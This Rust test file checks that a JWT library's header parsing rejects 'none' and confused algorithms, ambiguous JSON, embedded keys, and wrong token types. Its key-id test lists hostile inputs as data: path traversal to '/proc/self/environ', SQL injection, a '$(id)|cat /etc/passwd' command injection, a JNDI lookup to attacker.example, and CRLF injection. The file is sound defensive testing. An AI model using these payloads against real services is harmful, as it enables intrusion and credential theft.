//! Headers that choose their own algorithm or key, or say what nobody understands. Each token
//! carries a valid signature of the issuer's key, so the header alone decides.

use crate::forge::{HEADER, PAIRS, claims, ec_members, keys, profile, signed, verdict, verify};
use portcullis_credential::Algorithm;
use portcullis_credential::jwt::{Envelope, TokenFault, TokenType};

fn each(cases: &[(&str, &str)]) {
    for (header, expected) in cases {
        assert_eq!(verdict(&signed(header, claims())), *expected, "{header}");
    }
}

#[test]
fn a_header_that_says_nothing_odd_is_accepted() {
    each(&[
        (HEADER, "accepted"),
        (r#"{"alg":"ES256","typ":"JWT","kid":"e"}"#, "accepted"),
        (r#"{"alg":"ES256","typ":"jwt","kid":"e"}"#, "accepted"),
        (r#"{"alg":"ES256","typ":"AT+JWT","kid":"e"}"#, "accepted"),
        (r#"{"alg":"ES256","typ":"application/at+jwt","kid":"e"}"#, "accepted"),
        (r#"{"alg":"ES256","typ":"Application/JWT","kid":"e"}"#, "accepted"),
        (" {\n\"alg\" : \"ES256\", \"kid\":\"e\", \"typ\":\"JWT\" } ", "accepted"),
        (r#"{"alg":"E\u00532\u003556","typ":"JWT","kid":"e"}"#, "alg_unknown"),
        (r#"{"alg":"\u0045S256","typ":"JWT","kid":"e"}"#, "accepted"),
        (r#"{"alg":"ES256","typ":"JWT","kid":"e","x5t":"abc","nonce":{"a":[1]}}"#, "accepted"),
        // The only key on P-256.
        (r#"{"alg":"ES256","typ":"JWT"}"#, "accepted"),
    ]);
}

#[test]
fn an_algorithm_outside_the_list_is_refused_in_every_spelling() {
    for alg in [
        r#""none""#,
        r#""None""#,
        r#""NONE""#,
        r#""nOnE""#,
        r#""non\u0065""#,
        r#""none ""#,
        r#""""#,
        r#""HS256""#,
        r#""HS384""#,
        r#""HS512""#,
        r#""hs256""#,
        r#""es256""#,
        r#""Es256""#,
        r#"" ES256""#,
        r#""ES256 ""#,
        r#""ES256\u0000""#,
        r#""ES256\n""#,
        r#""ＥＳ256""#,
        r#""ES256K""#,
        r#""ES512""#,
        r#""Ed448""#,
        r#""EDDSA""#,
        r#""RS1""#,
        r#""RSA1_5""#,
        r#""RSA-OAEP""#,
        r#""dir""#,
        r#""A128KW""#,
        r#""ECDH-ES""#,
        "null",
        "true",
        "256",
        r#"["ES256"]"#,
        r#"{"alg":"ES256"}"#,
    ] {
        let header = format!(r#"{{"alg":{alg},"kid":"e","typ":"JWT"}}"#);
        assert_eq!(verdict(&signed(&header, claims())), "alg_unknown", "{header}");
    }
    each(&[
        (r#"{"kid":"e","typ":"JWT"}"#, "alg_unknown"),
        (r#"{"Alg":"ES256","kid":"e","typ":"JWT"}"#, "alg_unknown"),
        ("{}", "alg_unknown"),
    ]);
}

#[test]
fn a_header_with_two_readings_is_refused() {
    each(&[
        (r#"{"alg":"ES256","alg":"ES256","kid":"e","typ":"JWT"}"#, "header_json"),
        (r#"{"alg":"none","alg":"ES256","kid":"e","typ":"JWT"}"#, "header_json"),
        (r#"{"alg":"ES256","\u0061lg":"none","kid":"e","typ":"JWT"}"#, "header_json"),
        (r#"{"alg":"ES256","kid":"e","kid":"x","typ":"JWT"}"#, "header_json"),
        (r#"{"alg":"ES256","kid":"e","typ":"JWT","typ":"at+jwt"}"#, "header_json"),
        (r#"{"alg":"ES256","kid":"e","typ":"JWT","o":{"a":1,"a":2}}"#, "header_json"),
        (r#"{"alg":"ES256","kid":"\ud800","typ":"JWT"}"#, "header_json"),
        ("{'alg':'ES256','kid':'e','typ':'JWT'}", "header_json"),
        (r#"{"alg":"ES256","kid":"e","typ":"JWT",}"#, "header_json"),
        (r#"{"alg":"ES256","kid":"e","typ":"JWT"}{}"#, "header_json"),
        (r#"{"alg":"ES256",/**/"kid":"e","typ":"JWT"}"#, "header_json"),
        ("{\"alg\":\"ES256\",\"kid\":\"e\",\"typ\":\"JWT\"}\0", "header_json"),
        ("\u{FEFF}{\"alg\":\"ES256\",\"kid\":\"e\",\"typ\":\"JWT\"}", "header_json"),
        (r#"["ES256"]"#, "header_json"),
        (r#""ES256""#, "header_json"),
        ("null", "header_json"),
        (r#"{"alg":"ES256","kid":"e","typ":"JWT","o":[[[[[1]]]]]}"#, "header_json"),
    ]);
    let utf16: Vec<u8> = HEADER.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(verdict(&signed(utf16, claims())), "header_json");
    assert_eq!(verdict(&signed([HEADER.as_bytes(), &[0xFF]].concat(), claims())), "header_json");
    let wide: Vec<String> = (0..40).map(|n| format!(r#""m{n}":0"#)).collect();
    let header = format!(r#"{{"alg":"ES256","kid":"e","typ":"JWT",{}}}"#, wide.join(","));
    assert_eq!(verdict(&signed(header, claims())), "header_json");
}

#[test]
fn a_header_that_brings_or_names_its_key_is_refused() {
    let own = format!("{{{}}}", ec_members(&PAIRS.p256, "P-256"));
    for (member, expected) in [
        (format!(r#""jwk":{own}"#), "jwk"),
        (r#""jwk":null"#.to_owned(), "jwk"),
        (r#""jwk":"""#.to_owned(), "jwk"),
        (format!(r#""\u006awk":{own}"#), "jwk"),
        (r#""jku":"https://issuer.example/keys""#.to_owned(), "jku"),
        (r#""jku":null"#.to_owned(), "jku"),
        (r#""x5u":"https://issuer.example/cert""#.to_owned(), "x5u"),
        (r#""x5c":["MIIB"]"#.to_owned(), "x5c"),
        (r#""x5c":[]"#.to_owned(), "x5c"),
        (r#""crit":["exp"],"exp":1"#.to_owned(), "crit"),
        (r#""crit":[]"#.to_owned(), "crit"),
        (r#""crit":null"#.to_owned(), "crit"),
        (r#""crit":"b64""#.to_owned(), "crit"),
        (r#""b64":false"#.to_owned(), "b64"),
        (r#""b64":true"#.to_owned(), "b64"),
        (r#""zip":"DEF""#.to_owned(), "zip"),
        (r#""enc":"A128GCM""#.to_owned(), "enc"),
        (r#""cty":"JWT""#.to_owned(), "cty"),
        (r#""cty":"application/jwt""#.to_owned(), "cty"),
        (r#""cty":"json""#.to_owned(), "cty"),
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"e","typ":"JWT",{member}}}"#);
        assert_eq!(verdict(&signed(&header, claims())), expected, "{header}");
    }
}

#[test]
fn a_key_id_is_compared_and_nothing_else() {
    let kid = |kid: &str| format!(r#"{{"alg":"ES256","typ":"JWT","kid":{kid}}}"#);
    for (id, expected) in [
        (r#""""#, "kid_malformed"),
        ("null", "kid_malformed"),
        ("0", "kid_malformed"),
        (r#"["e"]"#, "kid_malformed"),
        (r#"{"kid":"e"}"#, "kid_malformed"),
        (r#""e\u0000""#, "kid_malformed"),
        (r#""\u0000""#, "kid_malformed"),
        (r#""e\r\nX: y""#, "kid_malformed"),
        (r#""E""#, "key_unknown"),
        (r#""e ""#, "key_unknown"),
        (r#""../../../../dev/null""#, "key_unknown"),
        (r#""/proc/self/environ""#, "key_unknown"),
        (r#""https://attacker.example/key""#, "key_unknown"),
        (r#""' OR '1'='1""#, "key_unknown"),
        (r#""e'; DROP TABLE keys;--""#, "key_unknown"),
        (r#""$(id)|cat /etc/passwd""#, "key_unknown"),
        (r#""${jndi:ldap://attacker.example/a}""#, "key_unknown"),
        (r#""ｅ""#, "key_unknown"),
    ] {
        assert_eq!(verdict(&signed(kid(id), claims())), expected, "{id}");
    }
    let long = |length: usize| kid(&format!(r#""{}""#, "k".repeat(length)));
    assert_eq!(verdict(&signed(long(256), claims())), "key_unknown");
    assert_eq!(verdict(&signed(long(257), claims())), "kid_malformed");
}

#[test]
fn a_token_of_another_kind_is_no_access_token() {
    for typ in [
        r#""dpop+jwt""#,
        r#""id_token""#,
        r#""id+jwt""#,
        r#""logout+jwt""#,
        r#""secevent+jwt""#,
        r#""token-introspection+jwt""#,
        r#""oauth-authz-req+jwt""#,
        r#""JWS""#,
        r#""JOSE""#,
        r#""JOSE+JSON""#,
        r#""at+jwt ""#,
        r#""at+jwt;v=1""#,
        r#""at jwt""#,
        r#""application/application/at+jwt""#,
        r#""application/at+jwt/x""#,
        r#""text/at+jwt""#,
        r#""""#,
        "null",
        "1",
        r#"["at+jwt"]"#,
    ] {
        let header = format!(r#"{{"alg":"ES256","kid":"e","typ":{typ}}}"#);
        assert_eq!(verdict(&signed(&header, claims())), "typ", "{typ}");
    }
    let long = format!(r#"{{"alg":"ES256","kid":"e","typ":"{}"}}"#, "a".repeat(1000));
    assert_eq!(verdict(&signed(long, claims())), "typ");
}

#[test]
fn a_token_without_type_needs_a_profile_that_says_so() {
    let token = signed(r#"{"alg":"ES256","kid":"e"}"#, claims());
    assert_eq!(verdict(&token), "typ");
    let lenient = profile().with_types(&[TokenType::Absent]).unwrap();
    let envelope = Envelope::read(&token).unwrap();
    assert!(envelope.verify(&keys(), &lenient, crate::forge::NOW).is_ok());
}

#[test]
fn an_algorithm_that_the_profile_does_not_name_is_refused_before_the_key_is_looked_for() {
    let only = profile().with_algorithms(&[Algorithm::EdDsa]).unwrap();
    let token = signed(HEADER, claims());
    let envelope = Envelope::read(&token).unwrap();
    let verdict = envelope.verify(&keys(), &only, crate::forge::NOW).map(drop);
    assert_eq!(verdict, Err(TokenFault::AlgorithmNotAllowed));
    assert!(verify(&token).is_ok());
}
